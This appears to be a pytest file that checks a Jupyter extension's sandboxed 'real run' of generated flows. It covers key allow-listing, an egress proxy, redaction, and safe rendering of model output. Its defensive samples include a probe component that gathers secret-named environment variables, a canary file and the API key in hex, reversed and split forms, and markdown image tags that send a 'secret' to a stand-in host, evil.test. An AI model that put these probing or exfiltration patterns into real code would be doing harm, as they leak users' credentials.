"""A real run of a flow, the user's explicit choice: ``lfassist_jupyter.run_flow_for_real(flow, text)`` and
``%%assist_flow --run-local TEXT``.

Unlike the probe run it reaches the network and gets keys -- only the keys the user allowed, and
only the hosts of its model providers and the ones the user named, through the kernel's egress
proxy. The flows here hold generated components: one that reports what it can see (the
environment's secret names, a server on this machine standing in for the kernel's ports, a
canary file in the user's HOME), and a model node that calls a provider with the real openai SDK
(the fake provider of ``fakellm.py``)."""

from __future__ import annotations

import contextlib
import json
import socket
import sys
import threading
import time
from pathlib import Path

import pytest
from _support.components import LLM_SPEC, OPENAI_CHAT_MODEL, QA_SPEC, named
from _support.display import html_of, text_of
from _support.fakellm import Reply
from _support.pong import pong_server
from IPython.core.error import UsageError

import lfassist_jupyter
from lfassist_jupyter import build_flow, default_catalog
from lfassist_jupyter.errors import ConfigError
from lfassist_jupyter.flows.real_run import run_plan
from lfassist_jupyter.sandbox import _isolation
from lfassist_jupyter.settings import NO_KEY

PROBE = """
import os
import socket
import time
import urllib.parse
import urllib.request

from lfx.custom.custom_component.component import Component
from lfx.io import MessageTextInput, Output, SecretStrInput
from lfx.schema.message import Message


class EnvProbe(Component):
    display_name = "Env Probe"
    description = "Says what a run can see."
    name = "EnvProbe"

    inputs = [
        MessageTextInput(name="text", display_name="Text"),
        SecretStrInput(name="api_key", display_name="Key", value="DEMO_SERVICE_KEY"),
        MessageTextInput(name="url", display_name="URL"),
        MessageTextInput(name="canary", display_name="Canary"),
    ]
    outputs = [Output(display_name="Out", name="out", method="out")]

    def out(self) -> Message:
        if self.text == "crash":
            raise RuntimeError("the service said no")
        if self.text == "hang":
            time.sleep(600)
        names = ",".join(sorted(k for k in os.environ if any(s in k for s in ("KEY", "SECRET", "TOKEN"))))
        try:  # through the proxy the run is given (HTTP_PROXY)
            net = urllib.request.urlopen(self.url, timeout=5).read().decode()
        except Exception as exc:
            net = f"blocked({type(exc).__name__})"
        where = urllib.parse.urlsplit(self.url)
        try:  # straight to the port, as a component reading the kernel's IOPub would
            socket.create_connection((where.hostname, where.port), timeout=3).close()
            direct = "open"
        except OSError:
            direct = "closed"
        canary = str(self.canary or "")
        sees = bool(canary) and (os.path.exists(canary) or canary.startswith("ghp_"))  # a file, or a token
        key = self.api_key or ""
        return Message(
            text=f"{self.text.upper()} vars={names} net={net} direct={direct} canary={sees} key={key} "
            f"{key.encode().hex()} {key[::-1]} {' '.join(key)}"
        )
"""


@pytest.fixture(scope="module")
def server():
    with pong_server() as port:
        yield f"http://127.0.0.1:{port}/"


def _catalog(sandbox):
    catalog = default_catalog()
    catalog.add("EnvProbe", sandbox.component_template(PROBE).template)
    catalog.add("ChatModel", sandbox.component_template(OPENAI_CHAT_MODEL).template)
    return catalog


@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    (home / "canary.txt").write_text("private")
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def probe_flow(sandbox, server, home):
    """ChatInput -> Env Probe (generated, its key field reads DEMO_SERVICE_KEY) -> ChatOutput."""
    spec = f"""\
nodes:
  A: ChatInput
  P: EnvProbe
  C: ChatOutput
edges:
  A.message -> P.text
  P.out -> C.input_value
config:
  P.url: {server}
  P.canary: {home / "canary.txt"}
"""
    built = build_flow(spec, catalog=_catalog(sandbox))
    assert built.ok, built.errors
    return built.flow


@pytest.fixture
def model_flow(sandbox, server, home, llm):
    """ChatInput -> Chat Model (the openai SDK, the fake provider) -> Env Probe -> ChatOutput, with the
    README's ``M.api_key: OPENAI_API_KEY``; the probe then tries the "kernel's port" (``server``)."""
    spec = f"""\
nodes:
  A: ChatInput
  M: ChatModel
  P: EnvProbe
  C: ChatOutput
edges:
  A.message -> M.prompt
  M.text -> P.text
  P.out -> C.input_value
config:
  M.api_key: OPENAI_API_KEY
  M.base_url: {llm.openai_base_url}
  P.url: {server}
  P.canary: {home / "canary.txt"}
"""
    built = build_flow(spec, catalog=_catalog(sandbox))
    assert built.ok, built.errors
    return built.flow


# A real run starts the real runner (a process that imports lfx) on first use: ``slow`` (make test, not test-fast).
real_run = pytest.mark.slow


def _port(url: str) -> int:
    return int(url.rsplit(":", 1)[1].strip("/"))


def _fenced() -> bool:
    return _isolation.probe(sys.executable)[0] == "full"


@real_run
def test_a_model_flow_reaches_its_allowed_provider_with_the_key_and_nothing_else(model_flow, llm, server):
    llm.queue(Reply("the model says hi"))
    keys = {"OPENAI_API_KEY": "sk-test-fence-0123456789abcdef", "DEMO_SERVICE_KEY": "demo-secret-value-42"}

    run = lfassist_jupyter.run_flow_for_real(model_flow, "hello", env=keys, allow_hosts=[llm.url])

    assert run.ok is True, run
    assert llm.requests[-1].headers["authorization"] == f"Bearer {keys['OPENAI_API_KEY']}"  # the key got there
    assert llm.requests[-1].last_user == "hello"
    assert run.text.startswith("THE MODEL SAYS HI vars=DEMO_SERVICE_KEY,OPENAI_API_KEY net=blocked(HTTPError)")
    # The local server standing in for the kernel's ports: refused, and the result says so.
    assert [(r.host, r.port) for r in run.refused] == [("127.0.0.1", _port(server))]
    assert "allow-list" in run.refused[0].reason
    assert run.hosts == [f"127.0.0.1:{_port(llm.url)}"] and run.variables == sorted(keys)
    for secret in keys.values():  # nor echoed, nor hex-encoded, reversed or split
        assert secret not in str(run) and secret[::-1] not in str(run) and secret.encode().hex() not in str(run)
        assert " ".join(secret) not in str(run)
    if _fenced():
        assert "direct=closed" in run.text  # no way around the proxy: the sandbox has loopback only
        assert run.isolation.startswith("bubblewrap (network through the allow-list only; ")


def test_what_a_run_wants_is_shown_first_and_nothing_runs_without_it(model_flow, llm, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-kernel-0123456789")
    plan = run_plan(model_flow)
    assert plan.variables == [("OPENAI_API_KEY", "Chat Model.api_key"), ("DEMO_SERVICE_KEY", "Env Probe.api_key")]
    assert "Not allowed yet: OPENAI_API_KEY (Chat Model.api_key), DEMO_SERVICE_KEY" in str(plan)
    assert "sk-test-kernel" not in str(plan) + repr(plan)

    with pytest.raises(ConfigError, match=r"wants OPENAI_API_KEY \(Chat Model\.api_key\), DEMO_SERVICE_KEY"):
        lfassist_jupyter.run_flow_for_real(model_flow, "hi")
    with pytest.raises(ConfigError, match=r"wants DEMO_SERVICE_KEY \(Env Probe\.api_key\) -- allowed but not set"):
        lfassist_jupyter.run_flow_for_real(model_flow, "hi", env=["OPENAI_API_KEY", "DEMO_SERVICE_KEY"])
    assert llm.requests == []  # nothing ran


def test_the_readme_model_example_names_a_variable_and_its_provider_host(monkeypatch, llm):
    spec = LLM_SPEC + "  M.model: gpt-4o-mini\n  M.api_key: OPENAI_API_KEY\n"
    monkeypatch.setenv("OPENAI_BASE_URL", llm.openai_base_url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-kernel-0123456789")  # a key exists: the user allows it or not

    plan = run_plan(spec, catalog=default_catalog())

    assert plan.variables == [("OPENAI_API_KEY", "Language Model.api_key")]  # a variable, not the key itself
    assert [(str(h), h.why) for h in plan.hosts] == [
        ("api.openai.com:443", "openai for Language Model"),
        (f"127.0.0.1:{_port(llm.url)}", "OPENAI_BASE_URL"),
    ]
    assert plan.config == {"OPENAI_BASE_URL": llm.openai_base_url}
    with pytest.raises(ConfigError, match=r"wants OPENAI_API_KEY \(Language Model\.api_key\); allow it with env="):
        lfassist_jupyter.run_flow_for_real(spec, "hi")


@real_run
def test_a_hidden_non_key_field_naming_a_variable_gets_nothing(sandbox, server, home, monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_kernelsecret0123456789")
    flow = build_flow(
        f"nodes:\n  A: ChatInput\n  P: EnvProbe\n  C: ChatOutput\nedges:\n  A.message -> P.text\n"
        f"  P.out -> C.input_value\nconfig:\n  P.url: {server}\n",
        catalog=_catalog(sandbox),
    ).flow
    probe = next(n for n in flow["data"]["nodes"] if n["data"]["node"]["display_name"] == "Env Probe")
    probe["data"]["node"]["template"]["canary"].update(value="GITHUB_TOKEN", load_from_db=True, show=False)

    assert "Env Probe.canary names 'GITHUB_TOKEN' but is not a key field: not read" in str(run_plan(flow))
    # Even "allowed", a variable only a non-key field names is not passed, nor read into the field.
    monkeypatch.setenv("DEMO_SERVICE_KEY", "demo-secret-value-42")
    run = lfassist_jupyter.run_flow_for_real(flow, "hi", env=["GITHUB_TOKEN", "DEMO_SERVICE_KEY"], allow_hosts=[server])
    assert run.ok is True, run
    assert run.variables == ["DEMO_SERVICE_KEY"]
    assert run.text.startswith("HI vars=DEMO_SERVICE_KEY net=pong") and "canary=False" in run.text
    assert "ghp_kernelsecret" not in run.model_dump_json()


@real_run
def test_keys_come_only_from_env_and_a_missing_one_is_named(probe_flow, server, monkeypatch):
    monkeypatch.setenv("DEMO_SERVICE_KEY", "demo-secret-value-42")
    monkeypatch.setenv("OTHER_SECRET_KEY", "kernel-secret-value-77")
    with pytest.raises(ConfigError, match=r"wants DEMO_SERVICE_KEY \(Env Probe\.api_key\)"):
        lfassist_jupyter.run_flow_for_real(probe_flow, "hi")  # the environment alone allows nothing

    run = lfassist_jupyter.run_flow_for_real(probe_flow, "hello", env=["DEMO_SERVICE_KEY"], allow_hosts=[server])
    assert run.ok is True, run
    assert run.text.startswith("HELLO vars=DEMO_SERVICE_KEY net=pong")  # the one key; the named host works
    assert run.refused == [] and run.variables == ["DEMO_SERVICE_KEY"]
    for secret in ("demo-secret-value-42", "kernel-secret-value-77"):
        assert secret not in str(run) and secret.encode().hex() not in str(run) and secret[::-1] not in str(run)
    if _fenced():
        assert "canary=False" in run.text  # the user's HOME is not there

    given = lfassist_jupyter.run_flow_for_real(probe_flow, "hi", env={"DEMO_SERVICE_KEY": "given-explicitly-123"})
    assert given.ok and given.text.startswith("HI vars=DEMO_SERVICE_KEY net=blocked")
    assert [(r.host, r.port) for r in given.refused] == [("127.0.0.1", _port(server))]


def test_a_flow_that_needs_a_model_choice_is_refused_before_anything_runs():
    with pytest.raises(ConfigError, match=r"still needs .*Language Model\.model \(model\)"):
        lfassist_jupyter.run_flow_for_real(LLM_SPEC, "hi", env={"OPENAI_API_KEY": "sk-test-1234567890"})
    with pytest.raises(ConfigError, match="Unknown component type 'Nope'"):
        lfassist_jupyter.run_flow_for_real(QA_SPEC.replace("ChatOutput", "Nope"), "hi")
    with pytest.raises(ConfigError, match="timeout"):
        lfassist_jupyter.run_flow_for_real(QA_SPEC, "hi", timeout=float("nan"))
    with pytest.raises(ConfigError, match="allow_hosts: bad port"):
        lfassist_jupyter.run_flow_for_real(QA_SPEC, "hi", allow_hosts=["example.com:99999"])


@real_run
def test_a_crashing_or_hanging_component_is_a_report(probe_flow):
    env = {"DEMO_SERVICE_KEY": "demo-secret-value-42"}
    crashed = lfassist_jupyter.run_flow_for_real(probe_flow, "crash", env=env)
    assert crashed.ok is False and "the service said no" in crashed.error

    started = time.monotonic()
    seen_in_ps = []

    def scan_command_lines() -> None:  # while the run hangs: the key is on no process's command line
        time.sleep(4)
        for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
            with contextlib.suppress(OSError):
                seen_in_ps.append(b"demo-secret-value-42" in cmdline.read_bytes())

    scanner = threading.Thread(target=scan_command_lines)
    scanner.start()
    hung = lfassist_jupyter.run_flow_for_real(probe_flow, "hang", env=env, timeout=10)
    scanner.join()
    assert seen_in_ps and not any(seen_in_ps)
    assert hung.ok is False and "did not finish within 10 s" in hung.error
    assert time.monotonic() - started < 25


@real_run
def test_assist_flow_run_local_shows_the_real_answer(flow_ip, capsys):
    view = flow_ip.run_cell_magic("assist_flow", '--run-local "what is up?"', named(QA_SPEC, "Echo QA"))
    assert view.run.ok and view.run.text == "Answer this: what is up?"
    text = str(view)
    assert "Real run on 'what is up?': 'Answer this: what is up?'" in text
    assert "variables given: none" in text
    assert "Running the flow for real" in capsys.readouterr().out

    model_view = flow_ip.run_cell_magic("assist_flow", "--run-local hi", LLM_SPEC)
    assert model_view.run is None and "still needs" in str(model_view)
    with pytest.raises(UsageError, match="not both"):
        flow_ip.run_cell_magic("assist_flow", "--run a --run-local b", QA_SPEC)


@real_run
def test_assist_flow_run_local_asks_for_env_and_reaches_only_allowed_hosts(
    flow_ip, model_flow, llm, server, tmp_path, monkeypatch, capsys
):
    path = tmp_path / "model_flow.json"
    path.write_text(json.dumps(model_flow))
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-magic-0123456789abc")
    monkeypatch.setenv("DEMO_SERVICE_KEY", "demo-secret-value-42")

    asked = flow_ip.run_cell_magic("assist_flow", "--run-local hi --env OPENAI_API_KEY", str(path))
    assert asked.run is None and llm.requests == []
    assert "Re-run with --env DEMO_SERVICE_KEY to allow it" in str(asked)
    assert "network: " in str(asked)

    llm.queue(Reply("fenced hello"))
    line = f"--run-local hi --env OPENAI_API_KEY,DEMO_SERVICE_KEY --allow-host {llm.url}"
    view = flow_ip.run_cell_magic("assist_flow", line, str(path))
    assert view.run.ok, view.run
    assert llm.requests[-1].headers["authorization"] == "Bearer sk-test-magic-0123456789abc"
    assert view.run.text.startswith("FENCED HELLO vars=DEMO_SERVICE_KEY,OPENAI_API_KEY net=blocked")
    assert f"Refused by the network fence: 127.0.0.1:{_port(server)} (not on this run's allow-list)" in str(view)
    assert "sk-test-magic" not in str(view) + view._repr_html_() + capsys.readouterr().out


def test_a_flow_result_shows_model_text_as_text():
    """A model-written spec and run output holding a fence, an image and raw HTML: the flow card
    (HTML in a notebook, text in a terminal) shows them as text, nothing that loads or links."""
    from lfassist_jupyter.core.outcome import FlowOutcome
    from lfassist_jupyter.core.result import AssistResult
    from lfassist_jupyter.sandbox.answers import RealRun

    spec = QA_SPEC + "# ```\n# ![x](http://evil.test/?k=secret) <img src=http://evil.test/y>\n# ````` ~~~\n"
    flow = build_flow(QA_SPEC).flow
    outcome = FlowOutcome(result="done", intent="build_flow", flow=flow, spec=spec, validated=True, attempts=1)
    outcome.run = RealRun(ok=True, text="```\n![y](http://evil.test/z)\n```")
    result = AssistResult(status="complete", kind="flow", intent="build_flow", validated=True, attempts=1)
    result.outcome = outcome

    rendered = html_of(result)

    assert "<img" not in rendered and "<a " not in rendered
    assert "![x](http://evil.test/?k=secret) &lt;img src=http://evil.test/y&gt;" in rendered  # the spec, as text
    assert "![y](http://evil.test/z)" in rendered  # the run's answer, as text
    assert "![y](http://evil.test/z)" in text_of(result)


def test_a_passed_key_is_redacted_reversed_split_or_encoded():
    from lfassist_jupyter.redaction import redact_text

    key = "sk-test-redact-0123456789abcdef"
    forms = [key, key[::-1], " ".join(key), "\n".join(key[::-1]), key[:14] + " ... " + key[14:], key.encode().hex()]
    for form in forms:
        out = redact_text(f"before {form} after", extra=(key,))
        assert out.startswith("before ") and out.endswith(" after") and "***" in out, form
        assert "0123456789" not in out and "9876543210" not in out
    assert redact_text("an ordinary answer, with 42 words", extra=(key,)) == "an ordinary answer, with 42 words"


def _through(proxy_socket: str, request: bytes) -> bytes:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect(proxy_socket)
        s.sendall(request)
        chunks = []
        while chunk := s.recv(65536):
            chunks.append(chunk)
        return b"".join(chunks)


def test_the_fence_refuses_a_name_that_resolves_to_a_local_address_unless_the_user_named_it(server, tmp_path):
    """The kernel-side proxy on its own: a host on the allow-list because of the flow (a provider's)
    must still resolve to a public address; the same host named by the user may be local."""
    from lfassist_jupyter.sandbox.egress import Allowed, EgressProxy

    port = _port(server)
    get = f"GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n".encode()
    with EgressProxy([Allowed("localhost", port, False, "openai")], str(tmp_path / "a.sock")) as proxy:
        refused = _through(proxy.socket_path, f"CONNECT localhost:{port} HTTP/1.1\r\n\r\n".encode())
        assert refused.startswith(b"HTTP/1.1 403") and b"local or private address (127.0.0.1)" in refused
        assert _through(proxy.socket_path, get).startswith(b"HTTP/1.1 403")
        assert _through(proxy.socket_path, b"CONNECT 10.1.2.3:443 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 403")
        assert _through(proxy.socket_path, b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 5000 + b"\r\n").startswith(
            b"HTTP/1.1 400"
        )
    assert [(r["host"], r["port"]) for r in proxy.refused] == [("localhost", port), ("10.1.2.3", 443)]
    assert "allow-list" in proxy.refused[1]["reason"]

    with EgressProxy([Allowed("localhost", port, True, "you")], str(tmp_path / "b.sock")) as proxy:
        answer = _through(proxy.socket_path, get)
        assert answer.startswith(b"HTTP/1.0 200") and answer.endswith(b"pong")
        assert _through(proxy.socket_path, b"CONNECT localhost:1 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 403")
    assert [(r["host"], r["port"], r["reason"]) for r in proxy.refused] == [
        ("localhost", 1, "not on this run's allow-list")
    ]


@real_run
def test_a_keyless_servers_flow_runs_with_nothing_to_allow(flow_ip, llm, monkeypatch, capsys):
    """A user whose assistant talks to a keyless OpenAI-compatible server (``OPENAI_BASE_URL``
    alone): the flow it wrote runs for real with nothing to allow, the node given the stand-in key
    the assistant uses.  The control: with a key in the environment, the run asks for it."""
    spec = LLM_SPEC + "  M.model: gpt-4o-mini\n  M.api_key: OPENAI_API_KEY\n"
    monkeypatch.setenv("OPENAI_BASE_URL", llm.openai_base_url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-kernel-0123456789")
    asked = flow_ip.run_cell_magic("assist_flow", "--run-local hi", spec)
    assert asked.run is None and "OPENAI_API_KEY" in str(asked) and llm.requests == []  # the control

    monkeypatch.delenv("OPENAI_API_KEY")
    plan = run_plan(spec, catalog=default_catalog())
    assert plan.ready and plan.allowed == {"OPENAI_API_KEY": NO_KEY}
    assert any("stand-in key" in note for note in plan.notes)
    llm.queue(Reply("a keyless hello"))
    view = flow_ip.run_cell_magic("assist_flow", "--run-local hi", spec)
    assert view.run is not None and view.run.ok, view
    assert view.run.text == "a keyless hello"
    assert llm.requests[-1].headers["authorization"] == f"Bearer {NO_KEY}"
    assert NO_KEY not in str(view) + capsys.readouterr().out
